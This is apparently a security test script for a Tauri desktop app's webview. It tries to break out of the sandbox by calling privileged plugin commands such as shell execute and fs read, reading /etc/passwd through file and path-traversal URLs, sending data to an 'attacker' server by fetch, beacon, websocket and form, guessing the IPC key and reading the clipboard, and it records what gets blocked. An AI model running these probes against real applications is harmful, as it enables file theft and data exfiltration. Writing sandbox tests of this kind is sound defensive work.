// The body of an async function; `given[0]` names the attacker's servers. Ways past the commands: none of them may exist
// for this page. Each attempt ends with what it got, or with why it got nothing.
const { evil, plain } = given[0];
const invoke = window.__TAURI_INTERNALS__.invoke;
const tried = {};

async function attempt(name, work) {
  const soon = new Promise((_, no) => setTimeout(no, 1500, "nothing happened"));
  try {
    tried[name] = { value: String(await Promise.race([work(), soon])).slice(0, 200) };
  } catch (thrown) {
    tried[name] = { thrown: String(thrown?.message ?? thrown).slice(0, 200) };
  }
}

const loads = (element, address, into) =>
  new Promise((yes, no) => {
    element.onload = () => yes("loaded");
    element.onerror = () => no("blocked");
    if (element instanceof HTMLLinkElement) element.href = address;
    else element.src = address;
    into?.append(element);
  });
const nothingComes = (begin) =>
  new Promise((_, no) => {
    const undo = begin();
    setTimeout(() => {
      undo?.();
      no("nothing");
    }, 700);
  });

// Commands of plugins, of the framework, and such as might have been forgotten.
const foreign = [
  "plugin:fs|read_text_file", "plugin:fs|read_dir", "plugin:shell|open", "plugin:shell|execute", "plugin:http|fetch",
  "plugin:opener|open_url", "plugin:clipboard-manager|read_text", "plugin:dialog|open", "plugin:event|emit",
  "plugin:event|emit_to", "plugin:webview|create_webview_window", "plugin:webview|internal_toggle_devtools",
  "plugin:window|create", "plugin:window|set_title", "plugin:window|close", "plugin:path|resolve_directory",
  "plugin:app|version", "plugin:resources|close", "plugin:image|from_path", "plugin:menu|new", "read_file", "key_value",
  "vault_read",
];
const anything = {
  path: "/etc/passwd", url: evil, options: { url: evil, label: "second" }, event: "changed", payload: "x", value: "x",
  label: "main",
};
for (const command of foreign) await attempt(`invoke ${command}`, () => invoke(command, anything));

// The network and files, by every element that fetches.
const addresses = [
  evil, plain, "file:///etc/passwd", "asset://localhost/etc/passwd", "tauri://localhost/../../../../etc/passwd",
];
for (const address of addresses) {
  await attempt(`fetch ${address}`, async () => {
    const answer = await fetch(address, { method: "POST", mode: "no-cors", body: "x" });
    const text = await answer.text();
    if (answer.type === "opaque" || text.includes("root:")) return `got ${answer.type}`;
    throw new Error(`status ${answer.status}`);
  });
}
const link = Object.assign(document.createElement("link"), { rel: "stylesheet" });
await attempt("image", () => loads(new Image(), `${plain}/pixel.png`));
await attempt("script", () => loads(document.createElement("script"), `${plain}/x.js`, document.head));
await attempt("style", () => loads(link, `${plain}/x.css`, document.head));
await attempt("websocket", () => {
  return new Promise((yes, no) => {
    const socket = new WebSocket(plain.replace("http", "ws"));
    socket.onopen = () => yes("open");
    socket.onerror = () => no("blocked");
  });
});
// Whether a beacon left is seen at the server.
await attempt("beacon", async () => {
  navigator.sendBeacon(`${plain}/beacon`, "x");
  throw new Error("queued, or not");
});
await attempt("frame", () =>
  nothingComes(() => {
    const frame = Object.assign(document.createElement("iframe"), { src: `${plain}/frame` });
    document.body.append(frame);
    return () => frame.remove();
  }),
);
await attempt("form", () =>
  nothingComes(() => {
    const form = Object.assign(document.createElement("form"), { action: `${plain}/form`, method: "post" });
    document.body.append(form);
    form.submit();
    return () => form.remove();
  }),
);

// The shell's own door without its key.
for (const command of ["app", "key_copy", "plugin:fs|read_text_file"]) {
  await attempt(`bare ipc ${command}`, async () => {
    const headers = {
      "Content-Type": "application/json", "Tauri-Callback": "1", "Tauri-Error": "2", "Tauri-Invoke-Key": "guess",
    };
    const answer = await fetch(`ipc://localhost/${command}`, { method: "POST", body: "{}", headers });
    const text = await answer.text();
    if (answer.ok && answer.headers.get("Tauri-Response") === "ok") return text;
    throw new Error(`status ${answer.status} ${text}`);
  });
}

// The clipboard, other windows, code from text, other pages.
await attempt("clipboard", () => navigator.clipboard.readText());
await attempt("paste", async () => {
  const area = document.createElement("textarea");
  document.body.append(area);
  area.focus();
  document.execCommand("paste");
  const got = area.value;
  area.remove();
  if (got !== "") return got;
  throw new Error("nothing");
});
await attempt("window", async () => {
  if (window.open(`${plain}/window`) !== null) return "opened";
  throw new Error("blocked");
});
await attempt("eval", async () => eval("1 + 1"));
await attempt("navigate", () => nothingComes(() => void (location.href = `${plain}/navigate`)));
return tried;
